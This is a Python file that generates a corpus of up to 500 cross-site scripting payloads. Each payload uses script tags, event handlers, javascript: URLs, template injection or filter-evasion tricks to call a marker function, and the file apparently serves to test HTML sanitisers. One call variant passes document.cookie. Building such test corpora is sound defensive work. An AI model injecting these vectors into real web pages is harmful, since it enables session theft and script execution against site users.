"""Texts that would run in a page that trusts them, each calling `ran()`: 28 of the 500 of full size."""

CALL = "ran()"
PAYLOADS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f'"><img src=x onerror={CALL}>',
    f"'><svg onload={CALL}>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f'" autofocus onfocus={CALL} x="',
    f"' autofocus onfocus={CALL} x='",
    f"<details open ontoggle={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
    f"<iframe src='javascript:parent.{CALL}'>",
    f"<object data='javascript:{CALL}'>",
    f"<a href='javascript:{CALL}'>x</a>",
    f"<form action='javascript:{CALL}'><button autofocus>x</button></form>",
    f"<math><mtext><style><img src=x onerror={CALL}></style></mtext></math>",
    f"<body onload={CALL}>",
    f"<input onfocus={CALL} autofocus>",
    f"<video><source onerror={CALL}></video>",
    f"<style>@import 'javascript:{CALL}'</style>",
    f"<base href='javascript:{CALL}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f"<scr\u0131pt>{CALL}</scr\u0131pt><ScRiPt>{CALL}</ScRiPt>",
    f"\u2028<img/src/onerror={CALL}//",
)

CALLS = (
    CALL, "ran ()", "window.ran()", "self.ran()", "top.ran()", "(ran)()", "ran.call()", "ran?.()", "void ran()",
    "eval('ran()')", "Function('ran()')()", "[1].map(ran)", "setTimeout(ran)", "globalThis['ran']()",
    "Reflect.apply(ran,0,[])", "queueMicrotask(ran)", "new ran", "ran(document.cookie)",
)  # fmt: skip
"""Ways to call it: each text with each of them makes the 500 of full size."""


def payloads(count: int) -> list[str]:
    """So many different texts, at most 500."""
    found = [text.replace(CALL, call) for call in CALLS for text in PAYLOADS]
    return found[: min(count, 500)]
